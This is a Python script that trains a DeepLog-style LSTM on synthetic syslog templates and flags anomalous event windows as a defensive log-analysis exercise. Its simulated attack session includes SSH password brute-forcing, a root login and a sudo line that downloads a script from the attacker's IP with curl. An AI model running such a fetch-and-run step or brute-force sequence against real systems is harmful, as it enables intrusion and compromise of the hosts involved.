"""DeepLog-style next-event model: syslog -> templates -> windows -> LSTM top-k anomaly check."""
import random
import re
from collections import Counter, defaultdict

import torch
import torch.nn as nn
from torch.utils.data import DataLoader, TensorDataset

rnd = random.Random(2024)
torch.manual_seed(2024)

HISTORY = 8
TOP_K = 3
MIN_COUNT = 2

LINE_RE = re.compile(
    r"^(?P<month>\w{3})\s+(?P<day>\d{1,2}) (?P<time>\d\d:\d\d:\d\d) "
    r"(?P<host>[\w\-]+) (?P<proc>[\w\-/.]+)\[(?P<pid>\d+)\]: (?P<msg>.*)$"
)
MASKS = [
    (re.compile(r"\b\d{1,3}(?:\.\d{1,3}){3}\b"), "<IP>"),
    (re.compile(r"\b0x[0-9a-f]+\b"), "<HEX>"),
    (re.compile(r"\b[0-9a-f]{12,}\b"), "<ID>"),
    (re.compile(r"\b\d+(?:\.\d+)?\b"), "<NUM>"),
]

NORMAL_FLOWS = [
    [("sshd", "Connection from {ip} port {n}"), ("sshd", "Accepted publickey for deploy from {ip} port {n} ssh2"),
     ("systemd-logind", "New session {n} of user deploy."), ("sudo", "deploy : TTY=pts/{n} ; COMMAND=/usr/bin/systemctl restart app"),
     ("sshd", "Disconnected from user deploy {ip} port {n}"), ("systemd-logind", "Session {n} logged out.")],
    [("cron", "(root) CMD (run-parts /etc/cron.hourly)"), ("CRON", "pam_unix(cron:session): session opened for user root"),
     ("CRON", "pam_unix(cron:session): session closed for user root")],
    [("kernel", "[{f}] UFW BLOCK IN=eth0 OUT= SRC={ip} DST=10.0.0.5 PROTO=TCP SPT={n} DPT=23")],
]
ATTACK_FLOW = [("sshd", "Invalid user admin from {ip} port {n}"), ("sshd", "Failed password for invalid user admin from {ip} port {n} ssh2"),
               ("sshd", "Failed password for root from {ip} port {n} ssh2"), ("sshd", "Accepted password for root from {ip} port {n} ssh2"),
               ("sudo", "root : TTY=pts/{n} ; COMMAND=/usr/bin/curl -s http://{ip}/x.sh")]


def render(proc, template, host, t):
    ip = ".".join(str(rnd.randint(1, 254)) for _ in range(4))
    msg = template.format(ip=ip, n=rnd.randint(1, 60000), f=f"{rnd.uniform(1, 99999):.6f}")
    stamp = f"Mar {1 + t // 86400:2d} {t // 3600 % 24:02d}:{t // 60 % 60:02d}:{t % 60:02d}"
    head = f"{proc}:" if proc == "kernel" else f"{proc}[{rnd.randint(200, 40000)}]:"
    return f"{stamp} {host} {head} {msg}"


def synth_log(n_sessions, attack_every=None):
    t, lines = 0, []
    for s in range(n_sessions):
        host = rnd.choice(["app01", "app02", "edge-fw"])
        flow = ATTACK_FLOW if attack_every and s % attack_every == 0 else rnd.choices(NORMAL_FLOWS, [5, 3, 1])[0]
        for proc, tmpl in flow:
            t += rnd.randint(1, 40)
            lines.append(render(proc, tmpl, host, t))
    return lines


def parse(lines):
    events = []
    for raw in lines:
        rec = LINE_RE.match(raw).groupdict()
        msg = rec["msg"]
        for pat, tok in MASKS:
            msg = pat.sub(tok, msg)
        rec["template"] = f"{rec['proc']}: {msg}"
        events.append(rec)
    return events


def build_vocab(events):
    counts = Counter(e["template"] for e in events)
    kept = [tpl for tpl, c in counts.most_common() if c >= MIN_COUNT]
    return {tpl: i + 1 for i, tpl in enumerate(kept)}


def host_streams(events, vocab):
    streams = defaultdict(list)
    for e in events:
        streams[e["host"]].append(vocab.get(e["template"], 0))
    return streams


def make_windows(streams):
    xs, ys = [], []
    for seq in streams.values():
        for i in range(len(seq) - HISTORY):
            xs.append(seq[i:i + HISTORY])
            ys.append(seq[i + HISTORY])
    return torch.tensor(xs), torch.tensor(ys)


class NextEvent(nn.Module):
    def __init__(self, n_events, emb=16, hidden=32):
        super().__init__()
        self.emb = nn.Embedding(n_events, emb, padding_idx=0)
        self.lstm = nn.LSTM(emb, hidden, num_layers=2, batch_first=True)
        self.out = nn.Linear(hidden, n_events)

    def forward(self, x):
        h, _ = self.lstm(self.emb(x))
        return self.out(h[:, -1])


train_events = parse(synth_log(400))
vocab = build_vocab(train_events)
print(f"{len(train_events)} events, {len(vocab)} templates")
X, Y = make_windows(host_streams(train_events, vocab))
loader = DataLoader(TensorDataset(X, Y), batch_size=128, shuffle=True)

model = NextEvent(len(vocab) + 1)
opt = torch.optim.Adam(model.parameters(), lr=5e-3)
loss_fn = nn.CrossEntropyLoss()
for epoch in range(4):
    tot = 0.0
    for xb, yb in loader:
        loss = loss_fn(model(xb), yb)
        opt.zero_grad()
        loss.backward()
        opt.step()
        tot += loss.item() * len(yb)
    print(f"epoch {epoch} nll {tot / len(Y):.3f}")

test_events = parse(synth_log(120, attack_every=15))
Xt, Yt = make_windows(host_streams(test_events, vocab))
model.eval()
with torch.no_grad():
    topk = model(Xt).topk(TOP_K, dim=-1).indices
flagged = ~(topk == Yt[:, None]).any(dim=1)
print(f"flagged {int(flagged.sum())} / {len(Yt)} windows as anomalous")
